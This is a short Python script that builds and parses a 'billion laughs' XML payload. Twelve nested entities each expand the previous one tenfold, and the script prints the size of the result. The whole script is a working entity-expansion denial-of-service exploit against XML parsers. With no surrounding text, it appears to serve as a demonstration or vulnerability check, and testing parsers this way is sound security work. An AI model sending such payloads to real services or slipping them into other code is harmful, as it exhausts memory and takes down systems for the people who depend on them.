import xml.etree.ElementTree as tree
lol = '<!ENTITY a0 "lol">' + "".join(
    '<!ENTITY a%d "%s">' % (i, "&a%d;" % (i - 1) * 10) for i in range(1, 12)
)
print(len(tree.fromstring("<!DOCTYPE x [%s]><x>&a11;</x>" % lol).text))
